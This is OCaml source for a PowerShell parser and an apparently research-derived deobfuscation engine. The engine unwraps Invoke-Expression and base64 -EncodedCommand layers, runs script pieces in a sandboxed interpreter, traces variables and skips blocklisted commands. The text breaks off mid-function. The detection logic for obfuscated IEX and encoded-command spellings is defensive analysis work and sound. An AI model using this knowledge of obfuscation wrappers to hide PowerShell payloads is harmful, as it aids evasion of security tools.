      skip_separators st;
      st.no_comma <- saved;
      expect_group_end st ")";
      node_here st start (A.Paren_expr inner)
  | Some { T.kind = T.Group_start; content = "$("; _ } ->
      ignore (advance st);
      let saved = st.no_comma in
      st.no_comma <- false;
      let stmts = parse_statement_list st ~closing:(Some ")") in
      st.no_comma <- saved;
      expect_group_end st ")";
      node_here st start (A.Sub_expr stmts)
  | Some { T.kind = T.Group_start; content = "@("; _ } ->
      ignore (advance st);
      let saved = st.no_comma in
      st.no_comma <- false;
      let stmts = parse_statement_list st ~closing:(Some ")") in
      st.no_comma <- saved;
      expect_group_end st ")";
      node_here st start (A.Array_expr stmts)
  | Some { T.kind = T.Group_start; content = "@{"; _ } ->
      ignore (advance st);
      let pairs = parse_hash_entries st in
      expect_group_end st "}";
      node_here st start (A.Hash_literal pairs)
  | Some { T.kind = T.Group_start; content = "{"; _ } ->
      ignore (advance st);
      let saved = st.no_comma in
      st.no_comma <- false;
      let sb = parse_script_block st ~closing:(Some "}") in
      st.no_comma <- saved;
      expect_group_end st "}";
      let block =
        match sb.A.node with
        | A.Script_block b -> b
        | _ -> assert false
      in
      node_here st start (A.Script_block_expr block)
  | Some { T.kind = T.Command_argument; content; extent; _ } ->
      ignore (advance st);
      A.make (A.String_const (content, A.Bare)) extent
  | Some { T.kind = T.Command; content; extent; _ } ->
      ignore (advance st);
      A.make (A.String_const (content, A.Bare)) extent
  | Some { T.kind = T.Member; content; extent; _ } ->
      ignore (advance st);
      A.make (A.String_const (content, A.Bare)) extent
  | Some t ->
      err t.T.extent.Extent.start
        (Printf.sprintf "unexpected token %s" (T.kind_name t.T.kind))

and parse_hash_entries st =
  let pairs = ref [] in
  let continue = ref true in
  while !continue do
    skip_separators st;
    if group_end_is st "}" || at_end st then continue := false
    else begin
      let key_start = mark st in
      let key =
        match peek st with
        | Some { T.kind = T.Member | T.Command | T.Command_argument; content; _ } ->
            ignore (advance st);
            node_here st key_start (A.String_const (content, A.Bare))
        | _ -> parse_primary st
      in
      skip_newlines st;
      expect_op st "=";
      skip_newlines st;
      let value = parse_statement st in
      pairs := (key, value) :: !pairs
    end
  done;
  List.rev !pairs

(* ---------- expandable strings ---------- *)

and parse_expandable st tok quote_kind =
  let raw = tok.T.text in
  let ext = tok.T.extent in
  (* body bounds inside raw text *)
  let body_start, body_stop =
    match quote_kind with
    | A.Double_quoted -> (1, String.length raw - 1)
    | A.Double_here ->
        let first_nl =
          match String.index_opt raw '\n' with Some i -> i + 1 | None -> 2
        in
        (first_nl, String.length raw - 3)
    | A.Bare | A.Single_quoted | A.Single_here -> (0, String.length raw)
  in
  let abs i = ext.Extent.start + i in
  let parts = ref [] in
  let text_buf = Buffer.create 16 in
  let flush_text () =
    if Buffer.length text_buf > 0 then begin
      parts := A.Part_text (Buffer.contents text_buf) :: !parts;
      Buffer.clear text_buf
    end
  in
  let i = ref body_start in
  let n = body_stop in
  while !i < n do
    let c = raw.[!i] in
    if c = '`' && !i + 1 < n then begin
      Buffer.add_char text_buf (backtick_escape_char raw.[!i + 1]);
      i := !i + 2
    end
    else if c = '"' && !i + 1 < n && raw.[!i + 1] = '"' then begin
      Buffer.add_char text_buf '"';
      i := !i + 2
    end
    else if c = '$' && !i + 1 < n then begin
      let c2 = raw.[!i + 1] in
      if c2 = '(' then begin
        (* find matching close paren *)
        let close = find_matching_paren ~err_pos:(abs !i) raw (!i + 1) n in
        flush_text ();
        let inner_start = !i + 2 in
        let fragment = String.sub raw inner_start (close - inner_start) in
        let sub =
          parse_fragment_internal ~src:st.src ~offset:(abs inner_start) fragment
        in
        let sub_ext = Extent.make ~start:(abs !i) ~stop:(abs (close + 1)) in
        let stmts =
          match sub.A.node with A.Script_block b -> b.A.sb_statements | _ -> []
        in
        parts := A.Part_subexpr (A.make (A.Sub_expr stmts) sub_ext) :: !parts;
        i := close + 1
      end
      else if c2 = '{' then begin
        match String.index_from_opt raw (!i + 2) '}' with
        | Some close when close < n ->
            flush_text ();
            let name = String.sub raw (!i + 2) (close - !i - 2) in
            let vext = Extent.make ~start:(abs !i) ~stop:(abs (close + 1)) in
            parts :=
              A.Part_variable ({ A.var_name = name; var_splat = false }, vext)
              :: !parts;
            i := close + 1
        | _ ->
            Buffer.add_char text_buf c;
            incr i
      end
      else if is_var_start_char c2 then begin
        let j = ref (!i + 1) in
        while
          !j < n
          && (is_ident_char_local raw.[!j]
             || (raw.[!j] = ':' && !j + 1 < n && is_ident_char_local raw.[!j + 1]))
        do
          incr j
        done;
        flush_text ();
        let name = String.sub raw (!i + 1) (!j - !i - 1) in
        let vext = Extent.make ~start:(abs !i) ~stop:(abs !j) in
        parts :=
          A.Part_variable ({ A.var_name = name; var_splat = false }, vext)
          :: !parts;
        i := !j
      end
      else begin
        Buffer.add_char text_buf c;
        incr i
      end
    end
    else begin
      Buffer.add_char text_buf c;
      incr i
    end
  done;
  flush_text ();
  let parts = List.rev !parts in
  let has_expansion =
    List.exists
      (function A.Part_text _ -> false | A.Part_variable _ | A.Part_subexpr _ -> true)
      parts
  in
  if has_expansion then A.make (A.Expandable_string (tok.T.content, parts)) ext
  else A.make (A.String_const (tok.T.content, quote_kind)) ext

and backtick_escape_char c =
  match c with
  | 'n' -> '\n'
  | 't' -> '\t'
  | 'r' -> '\r'
  | '0' -> '\000'
  | 'a' -> '\007'
  | 'b' -> '\b'
  | 'f' -> '\012'
  | 'v' -> '\011'
  | c -> c

and is_var_start_char c =
  match c with
  | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true
  | _ -> false

and is_ident_char_local c =
  match c with
  | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true
  | _ -> false

and find_matching_paren ~err_pos raw start limit =
  (* raw.[start] = '('; returns index of matching ')'.  [err_pos] is the
     offset of the opening [$(] in the original source: an unterminated
     subexpression must surface at its real site, not position 0, so region
     segmentation and error reports point at the break. *)
  let depth = ref 0 in
  let i = ref start in
  let result = ref (-1) in
  while !result < 0 && !i < limit do
    (match raw.[!i] with
    | '(' -> incr depth
    | ')' ->
        decr depth;
        if !depth = 0 then result := !i
    | '\'' ->
        (* skip single-quoted string *)
        let j = ref (!i + 1) in
        while !j < limit && raw.[!j] <> '\'' do
          incr j
        done;
        i := !j
    | '"' ->
        let j = ref (!i + 1) in
        while !j < limit && raw.[!j] <> '"' do
          if raw.[!j] = '`' then incr j;
          incr j
        done;
        i := !j
    | '`' -> incr i
    | _ -> ());
    incr i
  done;
  if !result < 0 then err err_pos "unterminated $( in expandable string"
  else !result

(* ---------- fragment parsing ---------- *)

and parse_fragment_internal ~src ~offset fragment =
  match Pslex.Lexer.tokenize fragment with
  | Error e ->
      err (offset + e.Pslex.Lexer.position) ("in fragment: " ^ e.Pslex.Lexer.message)
  | Ok toks ->
      let toks =
        List.filter
          (fun t ->
            match t.T.kind with
            | T.Comment | T.Line_continuation -> false
            | _ -> true)
          toks
        |> List.map (fun t -> { t with T.extent = Extent.shift t.T.extent offset })
      in
      let st2 = { src; toks = Array.of_list toks; pos = 0; last_stop = offset; no_comma = false } in
      let sb = parse_script_block st2 ~closing:None in
      if not (at_end st2) then err (cur_position st2) "trailing tokens in fragment";
      sb

(* ---------- entry points ---------- *)

let prepare_tokens toks =
  List.filter
    (fun t ->
      match t.T.kind with
      | T.Comment | T.Line_continuation -> false
      | _ -> true)
    toks

let parse src =
  match Pslex.Lexer.tokenize src with
  | Error e -> Error { message = e.Pslex.Lexer.message; position = e.Pslex.Lexer.position }
  | Ok toks -> (
      let toks = prepare_tokens toks in
      let st = { src; toks = Array.of_list toks; pos = 0; last_stop = 0; no_comma = false } in
      match parse_script_block st ~closing:None with
      | sb ->
          if at_end st then Ok sb
          else Error { message = "unexpected trailing tokens"; position = cur_position st }
      | exception Err e -> Error e
      | exception Failure m -> Error { message = m; position = 0 }
      | exception Invalid_argument m -> Error { message = m; position = 0 })

let parse_exn src =
  match parse src with
  | Ok ast -> ast
  | Error e -> failwith (Printf.sprintf "parse error at %d: %s" e.position e.message)

let parse_fragment ~src ~offset fragment =
  match parse_fragment_internal ~src ~offset fragment with
  | ast -> Ok ast
  | exception Err e -> Error e
  | exception Failure m -> Error { message = m; position = offset }
  | exception Invalid_argument m -> Error { message = m; position = offset }

let is_valid_syntax src = match parse src with Ok _ -> true | Error _ -> false
