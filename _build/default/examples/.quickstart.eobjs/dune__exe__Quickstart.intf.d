examples/quickstart.mli:
