(** Recovery based on AST (paper §III-B).

    One pass over the parsed script, in source order:
    {ol
    {- multi-layer unwrapping: a statement that is an [Invoke-Expression] /
       [powershell -EncodedCommand] invocation (in any obfuscated spelling)
       is replaced by the recursively-deobfuscated payload;}
    {- recoverable-piece execution: the {e outermost} recoverable node whose
       execution yields a renderable value is replaced in place by the
       rendered value; when the outer piece cannot be recovered the pass
       descends into its children;}
    {- variable tracing: assignments in straight-line code update the symbol
       table, and variable usages with known simple values are replaced by
       literals.}}

    All replacements are collected as extent edits and applied at once; the
    result is syntax-checked, and on any breakage the input is returned
    unchanged. *)

open Pscommon
module A = Psast.Ast
module Value = Psvalue.Value
module T = Telemetry

(* Process-wide recovery metrics, aggregated across batch domains (the
   per-run view lives in [stats]; these feed the batch metrics.json). *)
let m_attempted = T.Metrics.counter "recover.pieces_attempted"
let m_recovered = T.Metrics.counter "recover.pieces_recovered"
let m_blocked = T.Metrics.counter "recover.pieces_blocked"
let m_cache_hits = T.Metrics.counter "recover.cache_hits"
let m_substituted = T.Metrics.counter "recover.variables_substituted"
let m_unwrapped = T.Metrics.counter "recover.layers_unwrapped"
let m_piece_ms = T.Metrics.histogram "recover.piece_ms"
let m_dyn_attempted = T.Metrics.counter "recover.dynamic.attempted"
let m_dyn_recovered = T.Metrics.counter "recover.dynamic.recovered"
let m_dyn_unverifiable = T.Metrics.counter "recover.dynamic.unverifiable"

type options = {
  use_tracing : bool;  (** ablation: Algorithm 1 on/off *)
  use_blocklist : bool;  (** ablation: skip pieces naming blocked commands *)
  use_multilayer : bool;  (** ablation: IEX / -EncodedCommand unwrapping *)
  use_piece_cache : bool;  (** ablation: memoize piece invocations *)
  max_depth : int;  (** multi-layer recursion bound *)
  piece_step_budget : int;  (** interpreter budget per invoked piece *)
  piece_timeout_s : float;  (** wall-clock budget per invoked piece *)
  use_dynamic : bool;
      (** provenance-guided dynamic recovery of loop/conditional regions
          the static tracer skips; every edit still faces the verify gate *)
  dynamic_step_budget : int;  (** interpreter budget for one dynamic run *)
}

let default_options =
  { use_tracing = true; use_blocklist = true; use_multilayer = true;
    use_piece_cache = true; max_depth = 16; piece_step_budget = 400_000;
    piece_timeout_s = 5.0; use_dynamic = true; dynamic_step_budget = 1_000_000 }

type stats = {
  mutable pieces_recovered : int;
  mutable variables_substituted : int;
  mutable layers_unwrapped : int;
  mutable pieces_attempted : int;
  mutable pieces_blocked : int;
  mutable cache_hits : int;
  mutable edits_recorded : int;
      (** extent edits actually applied (post-normalization), summed over
          passes — the size of the journal the semantic gate bisects *)
  mutable dynamic_attempted : int;  (** loop/conditional regions targeted *)
  mutable dynamic_recovered : int;  (** regions replaced by traced values *)
  mutable dynamic_unverifiable : int;
      (** regions degraded to static-only output: effects observed, values
          unrenderable, provenance missing or poisoned, or execution halted *)
}

let new_stats () =
  { pieces_recovered = 0; variables_substituted = 0; layers_unwrapped = 0;
    pieces_attempted = 0; pieces_blocked = 0; cache_hits = 0;
    edits_recorded = 0; dynamic_attempted = 0; dynamic_recovered = 0;
    dynamic_unverifiable = 0 }

(* Memoizes piece invocation: obfuscators emit the same decode piece
   hundreds of times per script, wild corpora repeat the same decode
   constructs across scripts, and the fixpoint loop re-attempts unrecovered
   pieces every pass.  The key joins the traced-binding digest (the only
   ambient input to an execution) with the piece text; a table holding an
   unfingerprintable value yields no key and bypasses the cache entirely.

   Three tiers.  In-memory results are content-addressed and mutex-guarded,
   so one cache is shared by every pool domain of a batch or daemon
   process; bounding is two-generation segmented eviction (hot fills up →
   hot becomes cold, old cold is dropped, recently-touched entries are
   promoted back to hot), so overflow sheds the stale half instead of
   cold-starting the whole working set.  An optional persistent tier
   ([dir]) write-throughs every cacheable result to a digest-named file
   (atomic rename; payload digest + version/options [fingerprint] checked
   on load, so corruption, torn writes, and stale options all read as a
   miss) — batch reruns and daemon restarts start warm.  Alongside the
   result tiers, compiled piece programs ({!Pseval.Compile}) are memoized
   on text alone: compilation has no environment inputs, so programs are
   shared even when the binding digest differs or result caching is
   ablated away. *)
module Cache = struct
  (* tier attribution: which tier answered a hit — the scrape endpoint's
     view of where the working set actually lives *)
  let m_tier_hot = T.Metrics.counter "recover.cache.tier.hot"
  let m_tier_cold = T.Metrics.counter "recover.cache.tier.cold"
  let m_tier_persistent = T.Metrics.counter "recover.cache.tier.persistent"
  let m_tier_program = T.Metrics.counter "recover.cache.tier.program"

  type entry = (Value.t, string) result

  type stats = {
    entries : int;
    hits : int;
    lookups : int;
    evictions : int;
    persistent_loads : int;
  }

  type t = {
    mu : Mutex.t;
    mutable hot : (string, entry) Hashtbl.t;
    mutable cold : (string, entry) Hashtbl.t;
    gen_cap : int;  (** per generation; total residency stays under [cap] *)
    dir : string option;
    fingerprint : string;
    mutable hits : int;
    mutable lookups : int;
    mutable evictions : int;
    mutable persistent_loads : int;
    mutable prog_hot : (string, Pseval.Compile.program) Hashtbl.t;
    mutable prog_cold : (string, Pseval.Compile.program) Hashtbl.t;
  }

  let m_resets = T.Metrics.counter "recover.cache.resets"
  let m_entries = T.Metrics.gauge "recover.cache.entries"

  let create ?(cap = 2048) ?dir ?(fingerprint = "") () =
    { mu = Mutex.create ();
      hot = Hashtbl.create 64;
      cold = Hashtbl.create 64;
      gen_cap = max 1 (cap / 2);
      dir;
      fingerprint;
      hits = 0;
      lookups = 0;
      evictions = 0;
      persistent_loads = 0;
      prog_hot = Hashtbl.create 64;
      prog_cold = Hashtbl.create 64 }

  let locked t f =
    Mutex.lock t.mu;
    Fun.protect ~finally:(fun () -> Mutex.unlock t.mu) f

  (* generation flip: hot becomes cold, the previous cold generation is
     dropped.  Counted in [recover.cache.resets], as the whole-table reset
     it replaces was. *)
  let flip_locked t =
    t.evictions <- t.evictions + Hashtbl.length t.cold;
    t.cold <- t.hot;
    t.hot <- Hashtbl.create 64;
    T.Metrics.incr m_resets

  let insert_locked t key entry =
    if Hashtbl.length t.hot >= t.gen_cap && not (Hashtbl.mem t.hot key) then
      flip_locked t;
    Hashtbl.replace t.hot key entry;
    Hashtbl.remove t.cold key;
    (* last writer wins across domains — a gauge, not an exact census *)
    T.Metrics.set m_entries (Hashtbl.length t.hot + Hashtbl.length t.cold)

  (* ----- persistent tier ----- *)

  let magic = "IDPC1"

  let entry_path t key =
    match t.dir with
    | None -> None
    | Some dir ->
        Some
          (Filename.concat dir
             (Digest.to_hex (Digest.string (t.fingerprint ^ "\x00" ^ key))
             ^ ".piece"))

  let tmp_counter = Atomic.make 0

  (* best-effort write-through: tmp file + atomic rename so readers never
     see a partial entry under POSIX semantics, plus a payload digest so a
     torn write on a crashed run still reads back as a miss *)
  let persist t key entry =
    match entry_path t key with
    | None -> ()
    | Some path -> (
        try
          let payload =
            Marshal.to_string (t.fingerprint, key, (entry : entry)) []
          in
          let body = magic ^ Digest.string payload ^ payload in
          let tmp =
            Printf.sprintf "%s.tmp.%d.%d" path (Unix.getpid ())
              (Atomic.fetch_and_add tmp_counter 1)
          in
          let oc = open_out_bin tmp in
          (try
             output_string oc body;
             close_out oc
           with e ->
             close_out_noerr oc;
             raise e);
          Sys.rename tmp path
        with _ -> ())

  (* any defect — missing file, bad magic, truncation, digest mismatch,
     foreign fingerprint, unmarshalable bytes — is a miss, never a crash *)
  let load_persistent t key =
    match entry_path t key with
    | None -> None
    | Some path -> (
        try
          let ic = open_in_bin path in
          let body =
            Fun.protect
              ~finally:(fun () -> close_in_noerr ic)
              (fun () -> really_input_string ic (in_channel_length ic))
          in
          let mlen = String.length magic in
          if String.length body < mlen + 16 then None
          else if not (String.equal (String.sub body 0 mlen) magic) then None
          else
            let digest = String.sub body mlen 16 in
            let payload =
              String.sub body (mlen + 16) (String.length body - mlen - 16)
            in
            if not (String.equal (Digest.string payload) digest) then None
            else
              let (fp, k, entry) : string * string * entry =
                Marshal.from_string payload 0
              in
              if String.equal fp t.fingerprint && String.equal k key then
                Some entry
              else None
        with _ -> None)

  (* ----- lookups ----- *)

  let find t key =
    let in_memory =
      locked t (fun () ->
          t.lookups <- t.lookups + 1;
          match Hashtbl.find_opt t.hot key with
          | Some e ->
              t.hits <- t.hits + 1;
              T.Metrics.incr m_tier_hot;
              Some e
          | None -> (
              match Hashtbl.find_opt t.cold key with
              | Some e ->
                  (* promote: recently-used entries survive the next flip *)
                  t.hits <- t.hits + 1;
                  T.Metrics.incr m_tier_cold;
                  insert_locked t key e;
                  Some e
              | None -> None))
    in
    match in_memory with
    | Some _ as r -> r
    | None -> (
        match load_persistent t key with
        | Some entry ->
            locked t (fun () ->
                t.hits <- t.hits + 1;
                t.persistent_loads <- t.persistent_loads + 1;
                T.Metrics.incr m_tier_persistent;
                insert_locked t key entry);
            Some entry
        | None -> None)

  let add t key entry =
    locked t (fun () -> insert_locked t key entry);
    persist t key entry

  let m_shrinks = T.Metrics.counter "recover.cache.shrinks"

  (* memory-pressure shed: drop both cold generations (results and
     programs) without touching the hot working set — the cheapest bytes to
     give back, since anything recently used was promoted to hot *)
  let shrink t =
    locked t (fun () ->
        t.evictions <- t.evictions + Hashtbl.length t.cold;
        t.cold <- Hashtbl.create 64;
        t.prog_cold <- Hashtbl.create 64;
        T.Metrics.incr m_shrinks;
        T.Metrics.set m_entries (Hashtbl.length t.hot))

  let length t =
    locked t (fun () -> Hashtbl.length t.hot + Hashtbl.length t.cold)

  let stats t =
    locked t (fun () ->
        { entries = Hashtbl.length t.hot + Hashtbl.length t.cold;
          hits = t.hits;
          lookups = t.lookups;
          evictions = t.evictions;
          persistent_loads = t.persistent_loads })

  (* ----- compiled-program tier ----- *)

  (* programs hold closures, so they never touch the persistent tier; they
     ride the same two-generation discipline on their own tables (flips are
     not counted in [recover.cache.resets] — that counter is the result
     cache's) *)
  let flip_progs_locked t =
    t.prog_cold <- t.prog_hot;
    t.prog_hot <- Hashtbl.create 64

  let find_program t text =
    locked t (fun () ->
        match Hashtbl.find_opt t.prog_hot text with
        | Some _ as r ->
            T.Metrics.incr m_tier_program;
            r
        | None -> (
            match Hashtbl.find_opt t.prog_cold text with
            | Some p ->
                T.Metrics.incr m_tier_program;
                if Hashtbl.length t.prog_hot >= t.gen_cap then
                  flip_progs_locked t;
                Hashtbl.replace t.prog_hot text p;
                Hashtbl.remove t.prog_cold text;
                Some p
            | None -> None))

  let add_program t text prog =
    locked t (fun () ->
        if
          Hashtbl.length t.prog_hot >= t.gen_cap
          && not (Hashtbl.mem t.prog_hot text)
        then flip_progs_locked t;
        Hashtbl.replace t.prog_hot text prog;
        Hashtbl.remove t.prog_cold text)
end

type pass_state = {
  opts : options;
  stats : stats;
  cache : Cache.t;  (** shared across passes and layers of one engine run *)
  src : string;
  table : Tracer.t;
  mutable edits : (Patch.edit * string) list;  (** with their kind labels *)
  suppress : Editlog.suppression list;
      (** edits rolled back by the semantic gate; matched by content *)
  deobfuscate : depth:int -> string -> string;  (** full engine, for layers *)
  depth : int;
}

(* [false] when the gate suppressed this edit on a rollback re-run — the
   caller then skips its stats/telemetry notes and falls back to whatever
   it would have done had the edit not been possible *)
let add_edit st ~kind extent replacement =
  let keep =
    Quarantine.admits ~phase:"recover" ~kind
    && (st.suppress = []
       || not
            (Editlog.suppressed st.suppress ~phase:"recover"
               ~before:(Extent.text st.src extent) ~after:replacement))
  in
  if keep then st.edits <- (Patch.edit extent replacement, kind) :: st.edits;
  keep

(* one variable usage replaced by its traced literal value *)
let note_substitute st name =
  st.stats.variables_substituted <- st.stats.variables_substituted + 1;
  T.Metrics.incr m_substituted;
  if T.active () then
    T.event "recover.substitute" ~attrs:[ ("var", T.S name) ]

(* one Invoke-Expression / -EncodedCommand layer replaced by its payload *)
let note_unwrap st payload =
  st.stats.layers_unwrapped <- st.stats.layers_unwrapped + 1;
  T.Metrics.incr m_unwrapped;
  if T.active () then
    T.event "recover.layer_unwrap"
      ~attrs:
        [ ("depth", T.I st.depth);
          ("payload_bytes", T.I (String.length payload)) ]

(* ---------- invoking pieces ---------- *)

let fresh_env ?(for_bytes = 0) st =
  (* decoding loops visit every payload character several times, so the
     budget scales with the piece being executed *)
  let max_steps = st.opts.piece_step_budget + (40 * for_bytes) in
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps } in
  let env = Pseval.Env.create ~mode:Pseval.Env.Recovery ~limits () in
  if st.opts.use_tracing then Tracer.seed_env st.table env;
  env

(* run one piece under a guard: a stack overflow on a pathological piece, a
   wall-clock overrun, or any stray exception degrades that piece instead of
   aborting the pass.  The per-piece deadline is lowered to any enclosing
   run deadline by Guard.protect itself. *)
let guarded st f =
  match
    Guard.protect ~deadline:(Guard.deadline_after st.opts.piece_timeout_s) f
  with
  | Ok r -> r
  | Error failure -> Error (Guard.failure_label failure)

(* guard failures that depend on the moment of execution (wall clock,
   current recursion depth) must not be replayed from the cache *)
let cacheable_error = function
  | "timeout" | "stack-exhausted" -> false
  | _ -> true

(* compile-once-run-many: the closure-compiled form of a piece text, from
   the cache's program tier when warm.  Compilation is deterministic, draws
   no chaos probes, and is environment-independent, so memoizing on text
   alone is sound even across scripts with different traced bindings. *)
let program_for st text =
  match Cache.find_program st.cache text with
  | Some p -> p
  | None ->
      let p = Pseval.Compile.compile text in
      Cache.add_program st.cache text p;
      p

let cache_key st text =
  if not st.opts.use_piece_cache then None
  else
    let digest =
      (* with tracing off the env is never seeded: every invocation runs
         under the same (empty) binding set *)
      if st.opts.use_tracing then Tracer.digest st.table
      else Pseval.Env.bindings_digest []
    in
    match digest with
    | Some d -> Some (d ^ "\x00" ^ text)
    | None -> None

(* trace attributes of a piece execution's outcome: the guard verdict
   ("ok" for a recovered value, the failure label otherwise) plus the
   rendered size when the result has a cheap string form *)
let piece_end_attrs ~cache_hit result =
  let verdict = match result with Ok _ -> "ok" | Error e -> e in
  let base =
    [ ("verdict", T.S verdict); ("cache_hit", T.B cache_hit) ]
  in
  match result with
  | Ok (Value.Str s) -> ("bytes_out", T.I (String.length s)) :: base
  | _ -> base

(** Execute a piece of script text and return the resulting value.
    Memoized on (traced-binding digest, text): a fresh environment seeded
    from an identical binding set evaluates identical text to the same
    value, so a hit replays the recorded result without re-interpreting.
    [kind] labels the telemetry span with what the piece syntactically is
    (AST node kind, or the call-site role for command names / payloads). *)
let invoke_piece ?(kind = "piece") st text =
  st.stats.pieces_attempted <- st.stats.pieces_attempted + 1;
  T.Metrics.incr m_attempted;
  (* per-kind attribution: which syntactic shapes the recovery budget is
     actually spent on (counter here, latency histogram on the miss path) *)
  T.Metrics.incr (T.Metrics.counter ("recover.rule." ^ kind));
  let sid =
    if T.active () then
      T.span_begin "recover.piece"
        ~attrs:
          [ ("kind", T.S kind); ("bytes_in", T.I (String.length text)) ]
    else 0
  in
  if st.opts.use_blocklist && Blocklist.mentions_blocked_command text then begin
    st.stats.pieces_blocked <- st.stats.pieces_blocked + 1;
    T.Metrics.incr m_blocked;
    if sid <> 0 then
      T.span_end sid
        ~attrs:[ ("verdict", T.S "blocked"); ("cache_hit", T.B false) ];
    Error "blocklisted"
  end
  else begin
    let key = cache_key st text in
    match Option.bind key (Cache.find st.cache) with
    | Some result ->
        st.stats.cache_hits <- st.stats.cache_hits + 1;
        T.Metrics.incr m_cache_hits;
        if sid <> 0 then T.span_end sid ~attrs:(piece_end_attrs ~cache_hit:true result);
        result
    | None ->
        let t0 = Guard.now () in
        let result =
          guarded st (fun () ->
              Pscommon.Chaos.probe "recover.piece";
              let prog = program_for st text in
              let env = fresh_env ~for_bytes:(String.length text) st in
              Pseval.Compile.run env prog)
        in
        let dt_ms = (Guard.now () -. t0) *. 1000.0 in
        T.Metrics.observe m_piece_ms dt_ms;
        T.Metrics.observe
          (T.Metrics.histogram ("recover.rule_ms." ^ kind))
          dt_ms;
        (match (key, result) with
        | Some k, Ok _ -> Cache.add st.cache k result
        | Some k, Error e when cacheable_error e -> Cache.add st.cache k result
        | _ -> ());
        if sid <> 0 then T.span_end sid ~attrs:(piece_end_attrs ~cache_hit:false result);
        result
  end

(* executing a piece that contains variables is pointless (and wrong) when
   some of them are unknown — Algorithm 1 line 15 *)
let has_unknown_variables st node =
  if st.opts.use_tracing then Tracer.unknown_variables st.table node <> []
  else Tracer.variables_read node <> []

let renderable value =
  match value with
  | Value.Null | Value.Bool _ -> None
  | Value.Arr a
    when Array.exists
           (function Value.Int _ | Value.Float _ -> true | _ -> false)
           a ->
      (* byte buffers (decoded binary payloads) have no faithful string
         form; the paper keeps such pieces (§IV-C4) *)
      None
  | v -> Value.to_source_opt v

(* ---------- recoverable nodes (paper §III-B1) ---------- *)

let is_recoverable (node : A.t) =
  match node.A.node with
  | A.Pipeline _ | A.Unary_expr _ | A.Binary_expr _ | A.Convert_expr _
  | A.Invoke_member _ | A.Sub_expr _ ->
      true
  | _ -> false

(* pieces that are already in recovered form make no progress *)
let trivially_recovered text =
  match Psparse.Parser.parse text with
  | Ok { A.node = A.Script_block { A.sb_statements = [ stmt ]; _ }; _ } -> (
      match stmt.A.node with
      | A.Pipeline [ { A.node = A.Command_expression e; _ } ] -> (
          match e.A.node with
          | A.String_const (_, (A.Single_quoted | A.Double_quoted))
          | A.Number_const _ ->
              true
          | _ -> false)
      | _ -> false)
  | Ok _ | Error _ -> false

(* ---------- Invoke-Expression identification (paper §III-B4) ---------- *)

let iex_names = [ "iex"; "invoke-expression" ]

let is_iex_name name =
  List.exists (fun n -> Strcase.equal n name) iex_names

(* evaluate a command-name expression with the traced context and check
   whether it spells Invoke-Expression *)
let resolves_to_iex st (name_expr : A.t) =
  match name_expr.A.node with
  | A.String_const (s, _) -> is_iex_name s
  | _ -> (
      if has_unknown_variables st name_expr then false
      else
        match invoke_piece ~kind:"command-name" st (A.text st.src name_expr) with
        | Ok (Value.Str s) -> is_iex_name (String.trim s)
        | Ok _ | Error _ -> false)

let is_powershell_name name =
  List.exists
    (fun n -> Strcase.equal n name)
    [ "powershell"; "powershell.exe"; "pwsh"; "pwsh.exe" ]

(* -EncodedCommand parameter in any auto-completed spelling (paper: lowercase
   then '-encodedcommand'.StartsWith($param)) *)
let is_encoded_command_param p =
  let p = Strcase.lower p in
  let p = if p <> "" && p.[0] = '-' then String.sub p 1 (String.length p - 1) else p in
  let p = if p <> "" && p.[String.length p - 1] = ':' then String.sub p 0 (String.length p - 1) else p in
  String.length p > 0 && p.[0] = 'e' && Strcase.starts_with ~prefix:p "encodedcommand"

let is_command_param p =
  let p = Strcase.lower p in
  let p = if p <> "" && p.[0] = '-' then String.sub p 1 (String.length p - 1) else p in
  let p = if p <> "" && p.[String.length p - 1] = ':' then String.sub p 0 (String.length p - 1) else p in
  String.length p > 0 && p.[0] = 'c' && Strcase.starts_with ~prefix:p "command"

(* extract the single expression argument of a command *)
let command_arguments (cmd : A.command) =
  List.filter_map
    (function A.Elem_argument a -> Some a | _ -> None)
    cmd.A.cmd_elements

let eval_payload st (arg : A.t) =
  match arg.A.node with
  | A.String_const (s, _) -> Some s  (* literal or bareword argument *)
  | _ ->
      if has_unknown_variables st arg then None
      else
        match invoke_piece ~kind:"payload" st (A.text st.src arg) with
        | Ok (Value.Str s) -> Some s
        | Ok _ | Error _ -> None

(* payload of a single command element when it is an IEX / powershell
   invocation *)
let payload_of_command st (cmd : A.command) ~piped_input =
    match cmd.A.cmd_elements with
    | A.Elem_name name_expr :: _ -> (
        let is_iex =
          match name_expr.A.node with
          | A.String_const (s, A.Bare) -> is_iex_name s
          | _ -> (
              match cmd.A.cmd_invocation with
              | A.Inv_call | A.Inv_dot -> resolves_to_iex st name_expr
              | A.Inv_normal -> false)
        in
        if is_iex then
          match (command_arguments cmd, piped_input) with
          | [ arg ], None -> eval_payload st arg
          | [], Some payload -> Some payload
          | _ -> None
        else
          let is_ps =
            match name_expr.A.node with
            | A.String_const (s, A.Bare) -> is_powershell_name s
            | _ -> false
          in
          if is_ps then begin
            (* find -EncodedCommand / -Command and its value, which is
               either colon-attached or the following argument *)
            let decode_enc v =
              match eval_payload st v with
              | Some b64 -> (
                  match Encoding.Base64.decode b64 with
                  | Ok bytes -> Some (Encoding.Utf16.decode_lossy bytes)
                  | Error _ -> None)
              | None -> None
            in
            let rec find = function
              | [] -> None
              | A.Elem_parameter (p, Some v) :: _ when is_encoded_command_param p ->
                  decode_enc v
              | A.Elem_parameter (p, None) :: A.Elem_argument v :: _
                when is_encoded_command_param p ->
                  decode_enc v
              | A.Elem_parameter (p, Some v) :: _ when is_command_param p ->
                  eval_payload st v
              | A.Elem_parameter (p, None) :: A.Elem_argument v :: _
                when is_command_param p ->
                  eval_payload st v
              | _ :: rest -> find rest
            in
            find cmd.A.cmd_elements
          end
          else None)
    | _ -> None

(* A statement-level multi-layer unwrap opportunity: returns the decoded
   payload script when the statement is an invocation of IEX/powershell. *)
let multilayer_payload st (stmt : A.t) =
  match stmt.A.node with
  | A.Pipeline [ { A.node = A.Command cmd; _ } ] ->
      payload_of_command st cmd ~piped_input:None
  | A.Pipeline elems when List.length elems > 1 -> (
      (* <expr or commands> | iex : last element is the invoker *)
      match List.rev elems with
      | { A.node = A.Command cmd; _ } :: prefix_rev -> (
          match cmd.A.cmd_elements with
          | [ A.Elem_name name_expr ] -> (
              let is_iex =
                match name_expr.A.node with
                | A.String_const (s, A.Bare) -> is_iex_name s
                | _ -> resolves_to_iex st name_expr
              in
              if not is_iex then None
              else
                let prefix = List.rev prefix_rev in
